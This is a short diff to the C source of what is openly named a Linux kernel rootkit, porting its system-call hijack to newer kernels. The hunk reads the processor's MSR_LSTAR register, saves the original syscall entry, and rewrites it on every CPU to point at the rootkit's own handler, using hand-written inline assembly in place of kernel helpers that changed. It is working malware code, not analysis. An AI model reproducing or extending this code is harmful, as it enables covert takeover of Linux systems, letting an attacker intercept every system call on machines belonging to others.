@@ -277,14 +277,25 @@ asm(".pushsection .text\n"
     "	.long rootkit_kernel_entry - . - 4\n"
     ".popsection\n");
 
+/* By hand: the kernel's own names for these changed in 6.16. */
 static void set_lstar(void *value)
 {
-	wrmsrl(MSR_LSTAR, (unsigned long)value);
+	unsigned long entry = (unsigned long)value;
+
+	asm volatile("wrmsr" : : "c" (MSR_LSTAR), "a" ((u32)entry), "d" ((u32)(entry >> 32)) : "memory");
+}
+
+static unsigned long get_lstar(void)
+{
+	u32 low, high;
+
+	asm volatile("rdmsr" : "=a" (low), "=d" (high) : "c" (MSR_LSTAR));
+	return low | (unsigned long)high << 32;
 }
 
 static void change_lstar(void)
 {
-	rdmsrl(MSR_LSTAR, rootkit_kernel_entry);
+	rootkit_kernel_entry = get_lstar();
 	on_each_cpu(set_lstar, rootkit_entry, 1);
 	pr_info("rootkit: LSTAR was %lx\n", rootkit_kernel_entry);
 }
